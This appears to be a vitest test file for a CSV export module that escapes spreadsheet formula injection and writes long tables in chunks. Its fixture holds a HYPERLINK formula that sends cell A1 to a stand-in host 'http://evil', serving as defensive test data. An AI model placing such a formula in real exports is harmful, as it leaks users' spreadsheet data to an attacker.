import { beforeEach, expect, test, vi } from 'vitest';
import type { LongTable, TextTable } from '@/lib/text/table';
import { download } from './download';
import { safeCells, saveCsv } from './table-csv';

vi.mock('./download', () => ({ download: vi.fn() }));
beforeEach(() => vi.mocked(download).mockClear());

const HEADS = ['Persona', 'Users', 'Change'];
const ROWS = [
  ['=HYPERLINK("http://evil/?x="&A1,"click")', -5, '-5.00'],
  ['@a', 12, '+1.2 points'],
];
const HYPERLINK = '"=HYPERLINK(""http://evil/?x=""&A1,""click"")"';
const tableOf = (heads: readonly string[], rows: typeof ROWS): TextTable => ({
  caption: 'table',
  columns: heads.map((head) => ({ id: head, head })),
  rows: rows.map((cells, at) => ({ id: String(at), cells })),
});
const saved = () => Promise.all(vi.mocked(download).mock.calls.map(([, blob]) => (blob as Blob).text()));

test('texts that a spreadsheet would run are guarded, figures are not', async () => {
  expect(await safeCells([HEADS, ...ROWS])).toEqual([
    ['Persona', 'Users', 'Change'],
    ['\'=HYPERLINK("http://evil/?x="&A1,"click")', -5, '-5.00'],
    ["'@a", 12, '+1.2 points'],
  ]);
});

test('a table is saved safe, and says so; exact where that is asked for', async () => {
  expect(await saveCsv('table', tableOf(HEADS, ROWS))).toBe(true);
  expect(await saveCsv('table', tableOf(HEADS, ROWS), 'exact')).toBe(false);
  expect(await saveCsv('table', tableOf(['a'], [['b', -5, '-5.00']]))).toBe(false);
  const figures = (text: string, other: string) =>
    `Persona,Users,Change\r\n${text},-5,-5.00\r\n${other},12,+1.2 points\r\n`;
  expect(await saved()).toEqual([
    figures(HYPERLINK.replace('"=', '"\'='), "'@a"),
    figures(HYPERLINK, '@a'),
    'a\r\nb,-5,-5.00\r\n',
  ]);
  expect(vi.mocked(download).mock.calls[0]?.slice(2)).toEqual(['text/csv', '2 rows']);
});

test('a long table is made in parts, in order, each row once', async () => {
  const asked: [number, number][] = [];
  const long: LongTable = {
    caption: 'table',
    columns: [{ id: 'n', head: 'n' }],
    length: 5_001,
    rowsBetween: (from, to) => {
      asked.push([from, to]);
      return Array.from({ length: to - from }, (_, i) => ({ id: String(from + i), cells: [from + i] }));
    },
  };
  await saveCsv('table', long);
  expect(asked).toEqual([
    [0, 2_000],
    [2_000, 4_000],
    [4_000, 5_001],
  ]);
  const [text] = await saved();
  expect(text).toBe(`n\r\n${Array.from({ length: 5_001 }, (_, i) => `${i}\r\n`).join('')}`);
  expect(vi.mocked(download).mock.calls[0]?.[3]).toBe('5,001 rows');
});
